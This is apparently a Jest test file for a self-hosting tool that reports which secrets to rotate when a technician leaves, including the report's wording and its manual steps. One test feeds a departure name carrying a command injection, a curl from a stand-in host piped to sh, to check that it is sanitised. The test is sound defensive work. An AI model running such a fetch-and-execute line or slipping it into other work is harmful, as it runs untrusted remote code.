import { expect, test } from '@jest/globals'
import { planOf, readEstate } from '../../../inventory/model/read.ts'
import type { SiteProfile } from '../../../inventory/model/site.ts'
import { whoGetsIn } from '../../../ledger/departures/ask.ts'
import { affected, parseRemembered, whoLeft } from '../../../operations/departures/departures.ts'
import { outOfReach, renderDepartures } from '../../../operations/departures/report.ts'
import { type Rotation, rotationsOf } from '../../../operations/departures/rotations.ts'

const plan = planOf(await readEstate('inventory'))
const rotations = rotationsOf(plan)

test('every secret of the example estate is made anew by itself, on request, or never with a reason', () => {
  const told = rotations.map(
    ({ machine, secret, when, note }) => `${machine} ${secret}: ${when}${note ? ', with a note' : ''}`,
  )
  expect(told.filter((line) => /infini|blogs-database|forge\/(secret|account-yann)/.test(line))).toEqual([
    'apps collective/blogs-database/root: by itself',
    'apps collective/forge/secret-key: never, with a note',
    'apps collective/forge/account-yann: on request, with a note',
    'apps infini/infini-ecoute/source: by itself',
    'apps infini/infini-pad-main/root: by itself',
    'apps infini/infini-pad/main: by itself',
    'apps infini/blogs-infini-example/database: by itself',
    'apps infini/blogs-infini-example/admin: on request, with a note',
    'apps infini/blogs-radios-infini-example/database: by itself',
    'apps infini/blogs-radios-infini-example/admin: on request, with a note',
  ])
})

test('what is older than a departure concerns its own machine, and nothing that left the inventory', () => {
  const printed =
    'noted\tcamille\nleft\tcamille\t1700000000\nolder\tinfini/blogs-infini-example/admin\nolder\tpartis/wiki/master\nunfinished\tcollective/blogs-database/root\n'
  const apps = parseRemembered('apps', printed)
  expect(apps).toMatchObject({ noted: ['camille'], left: ['camille'] })
  expect(affected(rotations, [apps]).map(({ secret }) => secret)).toEqual([
    'collective/blogs-database/root',
    'infini/blogs-infini-example/admin',
  ])
  expect(affected(rotations, [{ ...apps, machine: 'gateway' }])).toEqual([])
  expect(whoLeft([apps, { ...apps, machine: 'gateway' }])).toEqual(['camille'])
})

test('S8: a machine that names who left cannot put a command into the mouth of whoever copies it', () => {
  const [name = ''] = parseRemembered('apps', 'left\tx; curl evil.example | sh #\t1700000000\n').left
  expect(name).toBe('x--curl-evil.example---sh--')
})

test('who gets in is told by name and key, without what people call theirs', () => {
  expect(whoGetsIn(plan.collective).split('\n')).toEqual([
    expect.stringMatching(/^camille ssh-ed25519 AAAA\S+$/),
    expect.stringMatching(/^nolwenn ssh-ed25519 AAAA\S+$/),
  ])
})

test('a name that machines would write otherwise is told to them as they write it, so that its departure can be closed', () => {
  const site = { name: 'répétition d’été/2', ssh: { authorized: ['ssh-ed25519 AAAAkey lab'] } } as SiteProfile
  expect(whoGetsIn({ technicians: [] }, site)).toBe('r-p-tition-d--t--2 ssh-ed25519 AAAAkey')
})

const rotation = (secret: string, when: Rotation['when']): Rotation => ({
  machine: 'apps',
  secret,
  opens: `what ${secret} opens`,
  when,
  note: 'a note',
})
const departures = { left: ['camille'], looked: true, renewed: [], open: [], failures: [] }

test('a departure is told with what was made anew, what is left, and the commands', () => {
  const open = [
    rotation('infini/a/admin', 'on request'),
    rotation('infini/b/admin', 'on request'),
    rotation('collective/forge/account-yann', 'on request'),
    rotation('infini/mail/relay', 'given'),
    rotation('collective/forge/secret-key', 'never'),
  ]
  const lines = renderDepartures({ ...departures, renewed: [rotation('infini/a/database', 'by itself')], open }, [
    { where: 'pve1', what: 'the password of root', instead: 'passwd' },
  ])
  expect(lines).toEqual([
    'Left: camille. What they could read:',
    '  made anew   the password of what infini/a/database opens',
    '  still open  what infini/a/admin opens has the password that was made for it; a note',
    '  still open  what infini/b/admin opens has the password that was made for it; a note',
    '  still open  what collective/forge/account-yann opens has the password that was made for it; a note',
    '              scripts/secret rotate a/admin b/admin forge/account-yann',
    '  still open  what infini/mail/relay opens, which was given: have another made where it comes from, then',
    '              scripts/secret set mail/relay',
    '  stays       the key of what collective/forge/secret-key opens; a note',
    'What no machine can see, to do by hand:',
    '  pve1: the password of root. passwd',
    'scripts/departures tells this again. When it is done:',
    '  scripts/departures --done camille',
  ])
})

test('where nobody left nothing is said; where somebody did before, one line until all is done', () => {
  expect(renderDepartures({ ...departures, left: [] }, [])).toEqual([])
  const before = { ...departures, looked: false, open: [rotation('infini/a/admin', 'on request')] }
  expect(renderDepartures(before, [])).toHaveLength(1)
  expect(renderDepartures({ ...before, left: [] }, [])).toHaveLength(1)
  // What can never be changed is no reason to go on asking, once the departure is closed.
  const never = { ...before, left: [], open: [rotation('collective/forge/secret-key', 'never')] }
  expect(renderDepartures(never, [])).toEqual([])
})

test('what no machine can see names every host and server, the gateways’ certificates, and the passphrase', () => {
  const said = outOfReach(plan).map(({ where, instead }) => `${where}: ${instead}`)
  expect(said[1]).toContain('pve1: ssh -t -F .bocage/ssh_config pve1 passwd; then https://pve1.bocage.example:8006')
  expect(said[0]).toContain('loue: ssh -t -F .bocage/ssh_config loue passwd; and take the person out of that account.')
  expect(said[2]).toContain('gateway: ssh -F .bocage/ssh_config gateway ')
  expect(said[3]).toContain('loue: ssh -F .bocage/ssh_config loue ')
  expect(said[4]).toContain('scripts/secret passphrase makes another')
})

test('a token that makes machines is on none, and is told with what no machine can see: also while the first is being made', () => {
  const order = { type: 'cax11', location: 'fsn1', zone: 'eu-central', image: 'debian-12' }
  const coming = { nuage: { kind: 'hcloud' as const, name: 'nuage', order } }
  const told = outOfReach({ ...plan, collective: { ...plan.collective, coming } }).find(
    ({ where }) => where === 'hcloud/token',
  )
  expect(told?.instead).toContain('then scripts/secret set hcloud/token')
  expect(outOfReach(plan).map(({ where }) => where)).not.toContain('hcloud/token')
})
